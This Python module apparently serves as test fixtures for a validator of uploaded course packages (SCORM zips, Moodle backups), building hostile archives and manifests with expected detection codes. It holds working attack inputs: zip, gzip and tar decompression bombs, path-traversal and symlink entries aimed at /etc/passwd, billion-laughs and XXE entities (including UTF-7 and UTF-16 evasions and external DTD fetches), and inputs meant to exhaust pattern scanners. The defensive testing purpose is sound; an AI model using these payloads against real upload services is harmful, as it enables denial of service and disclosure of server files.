"""Packages that mean harm, or are badly damaged: each is made here, in a moment and with little memory.

:data:`HOSTILE` names each with what makes it and the codes of which an inspection has to find one.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable
from typing import NamedTuple

MANIFEST = b"""<?xml version="1.0" encoding="UTF-8"?>
<manifest xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2" identifier="M">
<metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
<organizations default="O"><organization identifier="O"><title>Brakes</title>
<item identifier="I" identifierref="R"><title>Brakes</title></item></organization></organizations>
<resources><resource identifier="R" type="webcontent" adlcp:scormtype="sco" href="index.html">
<file href="index.html"/></resource></resources>
</manifest>"""
PAGE = b"<!DOCTYPE html><html lang='en'><title>Brakes</title><p>Pads wear.</p></html>"
GOOD = {"imsmanifest.xml": MANIFEST, "index.html": PAGE}
"""A small package in which nothing is wrong."""


class Hostile(NamedTuple):
    """A hostile package: what makes it, the codes of which one has to be found, and whether it is heavy enough to be weighed."""

    make: Callable[[], bytes]
    codes: frozenset[str]
    heavy: bool


HOSTILE: dict[str, Hostile] = {}


def hostile(codes: str, heavy: bool = False) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Register what makes a package, under its name with hyphens."""

    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        HOSTILE[make.__name__.replace("_", "-")] = Hostile(make, frozenset(codes.split()), heavy)
        return make

    return register


class Entry(NamedTuple):
    """A file of a zip as it is written: what stands before it and what stands in the table can differ."""

    name: bytes
    content: bytes = b"x"
    method: int = 0
    size: int | None = None
    """What it says its size is; None for the truth."""
    flags: int = 0x800
    attributes: int = 0
    local_name: bytes | None = None
    crc: int | None = None
    at: int | None = None
    """Where it says it is; None for the truth."""


def zipped(entries: Iterable[Entry], count: int | None = None, after: bytes = b"") -> bytes:
    """A zip of entries, with a table that says what they say."""
    body, table = bytearray(), bytearray()
    number = 0
    for entry in entries:
        number += 1
        size = len(entry.content) if entry.size is None else entry.size
        crc = zlib.crc32(entry.content) if entry.crc is None else entry.crc
        at = len(body) if entry.at is None else entry.at
        sizes = (crc, len(entry.content), size)
        if entry.at is None:
            name = entry.name if entry.local_name is None else entry.local_name
            body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, entry.flags, entry.method, 0, 33, *sizes, len(name), 0) + name
            body += entry.content
        head = (b"PK\x01\x02", 0x314, 20, entry.flags, entry.method, 0, 33, *sizes, len(entry.name), 0, 0, 0, 0, entry.attributes, at)
        table += struct.pack("<4s6H3L5H2L", *head) + entry.name
    said = number if count is None else count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(said, 65535), min(said, 65535), len(table), len(body), 0)
    if said > 65535:
        wide = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, said, said, len(table), len(body))
        end = wide + struct.pack("<4sLQL", b"PK\x06\x07", 0, len(body) + len(table), 1) + end
    return bytes(body + table + end + after)


def good(*more: Entry, **changed: bytes) -> bytes:
    """The good package with more entries, and with another manifest or page."""
    files = [Entry(name.encode(), changed.get(name.partition(".")[0], content)) for name, content in GOOD.items()]
    return zipped([*files, *more])


def zeros(megabytes: int) -> bytes:
    """Zeros packed by deflate, a thousand times smaller, without ever having them."""
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = engine.compress(bytes(1_000_000)) + engine.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def packed(data: bytes) -> bytes:
    """Deflated bytes as they stand in a zip."""
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return engine.compress(data) + engine.flush()


# Bombs


@hostile("Z004", heavy=True)
def bomb_that_says_so() -> bytes:
    return good(Entry(b"bomb.html", zeros(4000), 8, 4_000_000_000))


@hostile("Z017", heavy=True)
def bomb_that_lies() -> bytes:
    return good(Entry(b"bomb.html", zeros(4000), 8, 1000))


@hostile("Z004", heavy=True)
def bomb_of_the_manifest() -> bytes:
    return zipped([Entry(b"imsmanifest.xml", zeros(2000), 8, 2_000_000_000)])


@hostile("Z004", heavy=True)
def bomb_of_one_file_many_times() -> bytes:
    content = zeros(100)
    return zipped([Entry(b"a.html", content, 8, 100_000_000), *(Entry(b"%d.html" % n, content, 8, 100_000_000, at=0) for n in range(5000))])


@hostile("Z004", heavy=True)
def bomb_of_overlapping_files() -> bytes:
    files = [Entry(b"%03d.js" % n, packed(b"a" * 1_000_000), 8, 1_000_000) for n in range(100)]
    step = 30 + len(files[0].name) + len(files[0].content)
    return zipped([Entry(b"all.js", zipped(files)), *(entry._replace(at=36 + step * n) for n, entry in enumerate(files))])


@hostile("Z001 Z004", heavy=True)
def bomb_of_zips_in_zips() -> bytes:
    made = zipped([Entry(b"a.html", zeros(20), 8, 20_000_000)])
    for _ in range(5):
        made = zipped([Entry(b"%d.zip" % n, made) for n in range(3)])
    return made


@hostile("Z001", heavy=True)
def bomb_of_gzip() -> bytes:
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + zeros(10_000) + bytes(8)


@hostile("Z004", heavy=True)
def bomb_in_a_tar() -> bytes:
    head = tarfile.TarInfo("moodle_backup.xml")
    head.size = 8_000_000_000
    block = packed_start(head.tobuf(tarfile.GNU_FORMAT))
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + block + zeros(8000) + bytes(8)


def packed_start(data: bytes) -> bytes:
    """Deflated bytes after which others can follow."""
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return engine.compress(data) + engine.flush(zlib.Z_FULL_FLUSH)


# Many files


@hostile("Z003", heavy=True)
def many_members() -> bytes:
    return zipped(Entry(b"pages/%06d.html" % n) for n in range(120_000))


@hostile("Z003", heavy=True)
def many_members_that_are_not_told() -> bytes:
    return zipped((Entry(b"pages/%06d.html" % n) for n in range(120_000)), count=2)


@hostile("Z203 Z005", heavy=True)
def very_many_but_allowed() -> bytes:
    return good(*(Entry(b"pages/%06d.html" % n, PAGE) for n in range(20_000)))


@hostile("Z003", heavy=True)
def many_members_in_a_tar() -> bytes:
    head = tarfile.TarInfo("a.html").tobuf(tarfile.USTAR_FORMAT)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + packed(head * 120_000) + bytes(8)


@hostile("Z016")
def members_that_are_not_there() -> bytes:
    return zipped([Entry(name.encode(), content) for name, content in GOOD.items()], count=3)


# Names


def _named(name: bytes) -> Callable[[], bytes]:
    return lambda: good(Entry(name))


for _name, _path in {
    "path-up": b"../../etc/passwd",
    "path-up-inside": b"media/../../a.html",
    "path-absolute": b"/etc/passwd",
    "path-drive": b"C:/windows/a.html",
    "path-drive-and-backslash": b"c:\\windows\\a.html",
    "path-up-by-backslash": b"..\\..\\a.html",
    "path-of-a-share": b"\\\\server\\share\\a.html",
    "path-with-nul": b"a.html\0.png",
    "path-with-escape": b"\x1b[2Ja.html",
    "path-of-a-device": b"media/aux.html",
    "path-of-ten-thousand": b"a/" * 5000 + b"b",
}.items():
    HOSTILE[_name] = Hostile(_named(_path), frozenset({"Z010"}), False)


@hostile("Z011")
def path_with_backslash() -> bytes:
    return good(Entry(b"media\\a.png"))


@hostile("Z012")
def link_in_a_zip() -> bytes:
    return good(Entry(b"a.html", b"/etc/passwd", attributes=0o120777 << 16))


@hostile("Z012")
def device_in_a_zip() -> bytes:
    return good(Entry(b"a.html", b"", attributes=0o020666 << 16))


@hostile("Z013")
def two_of_a_name() -> bytes:
    return good(Entry(b"index.html", b"<p>another"))


@hostile("Z014")
def two_that_differ_in_case() -> bytes:
    return good(Entry(b"Index.HTML", b"<p>another"))


# Archives that are damaged or contradict themselves


@hostile("Z015")
def password() -> bytes:
    return good(Entry(b"secret.html", flags=0x801))


@hostile("Z002")
def cut_in_the_middle() -> bytes:
    made = good(Entry(b"a.png", bytes(5000)))
    return made[: len(made) // 2]


@hostile("Z002")
def cut_at_the_end() -> bytes:
    return good()[:-10]


@hostile("Z002 Z017")
def cut_at_the_begin() -> bytes:
    return b"PK\x03\x04" + good()[200:]


@hostile("Z016")
def another_name_at_the_file() -> bytes:
    return good(Entry(b"a.html", local_name=b"b.html"))


@hostile("Z016")
def something_after_the_end() -> bytes:
    return zipped([Entry(name.encode(), content) for name, content in GOOD.items()], after=b"MZ and a program")


@hostile("Z017")
def wrong_checksum() -> bytes:
    return good(Entry(b"a.html", b"words", crc=1))


@hostile("Z017")
def less_than_told() -> bytes:
    return good(Entry(b"a.html", packed(b"words"), 8, 500))


@hostile("Z017")
def packed_in_an_odd_way() -> bytes:
    return good(Entry(b"a.html", b"words", 99))


@hostile("Z017")
def damaged_bytes() -> bytes:
    return good(Entry(b"a.html", b"\xff" * 50, 8, 100))


@hostile("Z002")
def end_that_points_nowhere() -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 9, 9, 900_000, 4_000_000_000, 0)


@hostile("Z001 Z201")
def nothing_at_all() -> bytes:
    return b""


@hostile("Z001 Z002")
def only_the_sign_of_a_zip() -> bytes:
    return b"PK\x03\x04"


# Tars


def tarred(*heads: tarfile.TarInfo, content: bytes = b"", cut: int = 0) -> bytes:
    """A tar.gz of entries; ``content`` is that of the last."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        for head in heads:
            head.size = len(content) if head.isreg() else 0
            archive.addfile(head, io.BytesIO(content))
    made = file.getvalue()
    return made[: len(made) - cut] if cut else made


def _head(name: str, kind: bytes = tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
    head = tarfile.TarInfo(name)
    head.type, head.linkname = kind, target
    return head


@hostile("Z010")
def tar_path_up() -> bytes:
    return tarred(_head("../../moodle_backup.xml"))


@hostile("Z012")
def tar_link() -> bytes:
    return tarred(_head("moodle_backup.xml", tarfile.SYMTYPE, "/etc/passwd"))


@hostile("Z012")
def tar_hard_link() -> bytes:
    return tarred(_head("moodle_backup.xml", tarfile.LNKTYPE, "../../etc/passwd"))


@hostile("Z012")
def tar_device() -> bytes:
    return tarred(_head("moodle_backup.xml", tarfile.CHRTYPE))


@hostile("Z013")
def tar_two_of_a_name() -> bytes:
    return tarred(_head("moodle_backup.xml"), _head("moodle_backup.xml"))


@hostile("Z002")
def tar_cut() -> bytes:
    return tarred(_head("moodle_backup.xml"), content=bytes(range(256)) * 400, cut=60)


@hostile("Z002")
def tar_with_a_name_of_gigabytes() -> bytes:
    head = tarfile.TarInfo("././@LongLink")
    head.type, head.size = tarfile.GNUTYPE_LONGNAME, 8_000_000_000
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + packed_start(head.tobuf(tarfile.GNU_FORMAT)) + zeros(20) + bytes(8)


@hostile("Z002")
def tar_of_rubbish() -> bytes:
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + packed(b"no tar at all " * 100) + bytes(8)


# XML


def manifest(head: str, inside: str = "") -> bytes:
    """The good package with something before the root of its manifest, and something in a title."""
    text = MANIFEST.decode().partition("\n")[2]
    if inside:
        text = text.replace("<title>Brakes", f"<title>{inside}", 1)
    return good(imsmanifest=(head + text).encode())


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


@hostile("Z102", heavy=True)
def laughs() -> bytes:
    return manifest(f'<!DOCTYPE manifest [<!ENTITY l0 "ha">{_LAUGHS}]>', "&l11;")


@hostile("Z102", heavy=True)
def one_long_entity_many_times() -> bytes:
    return manifest(f'<!DOCTYPE manifest [<!ENTITY a "{"a" * 100_000}">]>', "&a;" * 100_000)


@hostile("Z102")
def entity_in_an_attribute() -> bytes:
    text = MANIFEST.decode().partition("\n")[2].replace('identifier="M"', 'identifier="&l9;"')
    return good(imsmanifest=f'<!DOCTYPE manifest [<!ENTITY l0 "ha">{_LAUGHS}]>{text}'.encode())


@hostile("Z102")
def external_entity() -> bytes:
    return manifest('<!DOCTYPE manifest [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;")


@hostile("Z102")
def external_parameter_entity() -> bytes:
    return manifest('<!DOCTYPE manifest [<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd"> %a;]>')


@hostile("Z102")
def entity_in_utf16() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE manifest [<!ENTITY a SYSTEM "file:///etc/passwd">]><manifest>&a;</manifest>'
    return good(imsmanifest=text.encode("utf-16"))


@hostile("Z103")
def external_document_type() -> bytes:
    return manifest('<!DOCTYPE manifest SYSTEM "http://192.0.2.1/imscp.dtd">')


@hostile("Z104")
def entity_in_utf7() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a +AFsAPAAh-ENTITY b SYSTEM +ACI-file:///etc/passwd+ACIAPgBdAD4-<a/>'
    return good(imsmanifest=text.encode())


@hostile("Z101")
def ebcdic() -> bytes:
    return good(imsmanifest='<?xml version="1.0" encoding="cp037"?><manifest/>'.encode("cp037"))


@hostile("Z101", heavy=True)
def a_hundred_thousand_deep() -> bytes:
    return good(imsmanifest=b"<a>" * 100_000 + b"</a>" * 100_000)


@hostile("Z105", heavy=True)
def a_million_elements() -> bytes:
    return good(Entry(b"a.xml"), imsmanifest=b"<manifest>" + b"<a/>" * 3_000_000 + b"</manifest>")


@hostile("Z105", heavy=True)
def a_million_attributes() -> bytes:
    return good(imsmanifest=b"<manifest " + b" ".join(b'a%d="1"' % n for n in range(300_000)) + b"/>")


@hostile("Z101", heavy=True)
def one_word_of_fifteen_megabytes() -> bytes:
    return good(imsmanifest=b"<manifest><schema>" + b"a" * 15_000_000 + b"</schema></manifest>")


@hostile("Z018", heavy=True)
def a_manifest_of_fifty_megabytes() -> bytes:
    content = b"<manifest><!--" + b"ab3 9x" * 8_000_000 + b"--></manifest>"
    return zipped([Entry(b"imsmanifest.xml", content)])


@hostile("Z205", heavy=True)
def very_many_entries_of_one_name() -> bytes:
    items = b'<item identifier="I" identifierref="R"><title>a</title></item>' * 80_000
    return good(imsmanifest=MANIFEST.replace(b"</organization>", items + b"</organization>"))


@hostile("Z202", heavy=True)
def fifty_thousand_files_that_are_missing() -> bytes:
    files = b"".join(b'<file href="a%d.html"/>' % n for n in range(50_000))
    return good(imsmanifest=MANIFEST.replace(b"</resource>", files + b"</resource>"))


@hostile("Z202")
def a_manifest_that_leads_nowhere() -> bytes:
    return good(imsmanifest=MANIFEST.replace(b'href="index.html"', b'href="nowhere.html"'))


@hostile("Z206")
def a_manifest_that_leads_out() -> bytes:
    return good(imsmanifest=MANIFEST.replace(b'<file href="index.html"/>', b'<file href="../../etc/passwd"/>'))


@hostile("Z204 Z209")
def a_manifest_of_lost_references() -> bytes:
    return good(imsmanifest=MANIFEST.replace(b'identifierref="R"', b'identifierref="S"'))


@hostile("Z601", heavy=True)
def fifty_thousand_activities_that_are_missing() -> bytes:
    activity = b"<activity><modulename>page</modulename><directory>activities/page_%d</directory></activity>"
    inside = b"".join(activity % n for n in range(50_000))
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<moodle_backup><information><contents><activities>'
    return zipped([Entry(b"moodle_backup.xml", head + inside + b"</activities></contents></information></moodle_backup>")])


# What is scanned by patterns


def _scanned(name: bytes, content: bytes) -> Callable[[], bytes]:
    return lambda: good(Entry(name, content), imsmanifest=MANIFEST.replace(b"</resource>", b'<file href="../a"/></resource>'))


for _name, _path, _content in (
    ("comments-that-do-not-end", b"a.css", b"//" + b"/*" * 1_500_000),
    ("addresses-that-do-not-end", b"a.css", b"//" + b"url( " * 700_000),
    ("elements-that-do-not-end", b"a.js", b"//" + b"<img src= " * 350_000),
    ("calls-that-do-not-end", b"a.js", b"//" + b"fetch( " * 500_000),
    ("blanks-in-a-script", b"a.js", b"//" + b" fetch" + b" " * 3_000_000),
    ("elements-in-elements", b"a.html", b"<div>" * 600_000),
    ("elements-that-are-not-closed", b"b.html", b"<b><i>" * 300_000),
    ("comments-in-html", b"b.html", b"<!--" * 900_000),
    ("attributes-in-html", b"b.html", b"<p " + b" ".join(b"a%d=1" % n for n in range(300_000)) + b">"),
    ("scripts-in-html", b"b.html", b"<script>//" * 300_000),
):
    HOSTILE[_name] = Hostile(_scanned(_path, _content), frozenset({"Z206"}), True)


@hostile("Z711", heavy=True)
def gift_of_blank_lines() -> bytes:
    return b"a {=b" + b"\n" * 10_000_000


@hostile("Z711", heavy=True)
def gift_of_braces() -> bytes:
    return b"::a::" + b"{" * 5_000_000


@hostile("Z711 Z712", heavy=True)
def gift_of_questions() -> bytes:
    return b"::a::b{~c}\n\n" * 100_000


@hostile("Z001", heavy=True)
def table_of_quotes() -> bytes:
    return b'"a","b"\n' + b'"' * 3_000_001


def standard_zip(files: dict[str, bytes]) -> bytes:
    """A zip as the standard library writes it."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return made.getvalue()
